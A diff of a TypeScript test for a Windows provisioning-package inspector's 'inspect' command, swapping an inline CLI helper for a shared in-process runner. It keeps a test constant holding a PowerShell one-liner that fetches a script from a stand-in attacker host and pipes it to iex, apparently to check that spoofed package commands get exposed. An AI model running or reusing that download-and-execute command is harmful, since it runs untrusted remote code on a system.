@@ -1,10 +1,8 @@
 import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { Command } from 'commander';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { registerInspectCommand } from '../../cli/commands/inspect';
-import { runCli } from '../../cli/support/run-cli';
 import { compilePackage, type PackageFile } from '../../shared/compiler/compile';
 import type { CustomizationsDocument } from '../../shared/model/customizations-document';
 import { setSetting } from '../../shared/model/settings-edit';
@@ -12,6 +10,7 @@ import { packageImageProperties } from '../../shared/node/package/image-properti
 import { packageTree } from '../../shared/node/package/package-tree';
 import { writeWim } from '../../shared/node/wim/wim-writer';
 import { serializeCustomizationsXml } from '../../shared/xml/customizations';
+import { runCliInProcess } from '../support/cli-in-process';
 
 /**
  * Issue #10 item "inspect / Open package decompile what Windows applies": a package whose provxml runs
@@ -77,15 +76,7 @@ async function writePackage(
   return path;
 }
 
-async function inspect(...args: string[]) {
-  const out: string[] = [];
-  const err: string[] = [];
-  const program = new Command('ppkg-studio');
-  const io = { stdout: (text: string) => void out.push(text), stderr: (text: string) => void err.push(text) };
-  registerInspectCommand(program, io);
-  const code = await runCli(program, ['node', 'ppkg-studio', 'inspect', ...args], io);
-  return { code, stdout: out.join(''), stderr: err.join('') };
-}
+const inspect = (...args: string[]) => runCliInProcess([registerInspectCommand], ['inspect', ...args]);
 
 const SPOOFED_COMMAND = 'powershell -nop -c "iwr https://evil.example/x.ps1 | iex"';
 
